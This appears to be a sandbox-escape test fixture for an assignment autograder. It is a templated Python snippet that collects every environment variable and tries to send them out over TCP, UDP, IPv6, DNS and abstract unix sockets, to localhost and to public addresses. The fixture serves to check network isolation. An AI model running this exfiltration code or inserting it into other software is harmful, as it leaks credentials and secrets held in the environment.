# @@include assignments/q1_expressivity.py
# Attack: send the environment out over the network: TCP to the grading host (the test listens on @@PORT@@) and to
# public addresses, UDP, DNS, and the host's abstract unix sockets.
import os as _os
import socket as _socket

_secret = repr(dict(_os.environ)).encode()
_report = []
for _family, _kind, _address in [(_socket.AF_INET, _socket.SOCK_STREAM, ("127.0.0.1", @@PORT@@)),
                                 (_socket.AF_INET, _socket.SOCK_STREAM, ("1.1.1.1", 443)),
                                 (_socket.AF_INET, _socket.SOCK_DGRAM, ("8.8.8.8", 53)),
                                 (_socket.AF_INET6, _socket.SOCK_STREAM, ("::1", @@PORT@@)),
                                 (_socket.AF_UNIX, _socket.SOCK_STREAM, "\0listener-@@MARKER@@")]:
    try:
        with _socket.socket(_family, _kind) as _s:
            _s.settimeout(2)
            _s.connect(_address)
            _s.sendall(_secret)
            _report.append(f"{_address}: sent")
    except OSError as _exc:
        _report.append(f"{_address}: {_exc}")
try:
    _report.append(f"dns: {_socket.getaddrinfo('example.com', 80)}")
except OSError as _exc:
    _report.append(f"dns: {_exc}")
raise RuntimeError("; ".join(_report))
